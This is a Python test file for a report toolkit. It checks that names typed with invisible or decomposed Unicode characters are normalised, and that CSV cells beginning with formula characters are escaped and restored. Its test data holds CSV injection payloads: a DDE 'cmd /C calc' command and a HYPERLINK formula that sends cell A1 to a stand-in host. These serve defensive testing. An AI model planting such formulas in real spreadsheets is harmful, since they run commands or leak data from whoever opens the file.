"""Text from outside: one spelling of each name, and CSV cells that a spreadsheet never runs."""

from __future__ import annotations

import csv
import io
import unicodedata

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from reportkit.text import clean, clean_cells, csv_text, neutralise, restore, restore_cells

NFD = unicodedata.normalize("NFD", "Tuy Hòa")


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ("Tuy Hòa", "Tuy Hòa"),
        (NFD, "Tuy Hòa"),
        ("Tuy\u200b Hòa", "Tuy Hòa"),  # zero-width space
        ("Tuy\u200c Hòa\u200d", "Tuy Hòa"),  # zero-width non-joiner, joiner
        ("\ufeffTuy Hòa", "Tuy Hòa"),  # a byte-order mark pasted in
        ("Tuy H\u00adòa", "Tuy Hòa"),  # soft hyphen
        ("Tuy\u00a0Hòa", "Tuy Hòa"),  # no-break space
        ("Tuy\u202fHòa", "Tuy Hòa"),  # narrow no-break space
        ("Tuy  Hòa", "Tuy Hòa"),
        ("  Tuy   Hòa  ", "Tuy Hòa"),
        ("Tuy \u00a0 Hòa", "Tuy Hòa"),
        ("dòng 1\ndòng 2", "dòng 1\ndòng 2"),  # line breaks are the note's own
        ("", ""),
    ],
)
def test_a_name_typed_any_way_has_one_spelling(typed, meant):
    assert clean(typed) == meant
    assert list(clean_cells(pd.Series([typed, "plain"]))) == [meant, "plain"]


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ('+HYPERLINK("http://x"&A1,"y")', '\'+HYPERLINK("http://x"&A1,"y")'),
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'already quoted", "''already quoted"),
        ("Băng rôn - 2 cái", "Băng rôn - 2 cái"),  # a dash inside is text
        ("Tuy Hòa", "Tuy Hòa"),
        ("", ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_typed(typed, written):
    assert neutralise(typed) == written
    assert restore(written) == typed
    assert list(restore_cells(pd.Series([written, "x"]))) == [typed, "x"]


def test_number_columns_are_written_as_they_are():
    text = csv_text([["unit", "-5", "=x"], ["-a", "1.200", "b"]], numbers=[1])
    assert list(csv.reader(io.StringIO(text))) == [["unit", "-5", "'=x"], ["'-a", "1.200", "b"]]
    assert text.endswith("\r\n")


@given(st.text())
def test_restoring_a_neutralised_cell_gives_the_cell(cell):
    assert restore(neutralise(cell)) == cell
    assert not neutralise(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
